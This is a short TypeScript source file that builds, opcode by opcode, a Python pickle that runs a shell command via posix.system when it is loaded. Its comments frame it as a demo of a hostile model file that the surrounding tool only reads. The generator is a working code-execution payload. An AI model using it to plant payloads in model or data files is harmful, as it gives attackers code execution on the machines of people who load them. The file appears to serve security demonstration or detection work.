/** Opcodes of the pickle machine, as CPython's `pickletools` names them. */
const PROTO = 0x80;
const SHORT_BINUNICODE = 0x8c;
const BINUNICODE = 0x58;
const STACK_GLOBAL = 0x93;
const TUPLE1 = 0x85;
const REDUCE = 0x52;
const STOP = 0x2e;

const PROTOCOL = 4;

const shortText = (text: string): number[] => {
  const bytes = Buffer.from(text);
  return [SHORT_BINUNICODE, bytes.length, ...bytes];
};

const text = (value: string): number[] => {
  const bytes = Buffer.from(value);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(bytes.length);
  return [BINUNICODE, ...length, ...bytes];
};

/**
 * A pickle that runs `command` in a shell when Python loads it: what an attacker hides in a model file. Written opcode
 * by opcode when the demo needs it, so that no such file stands in the repository. Loading it is the danger; the
 * plane only ever reads it.
 */
export const hostilePickle = (command: string): Uint8Array =>
  Uint8Array.from([
    ...[PROTO, PROTOCOL],
    ...shortText('posix'),
    ...shortText('system'),
    STACK_GLOBAL,
    ...text(command),
    TUPLE1,
    REDUCE,
    STOP,
  ]);
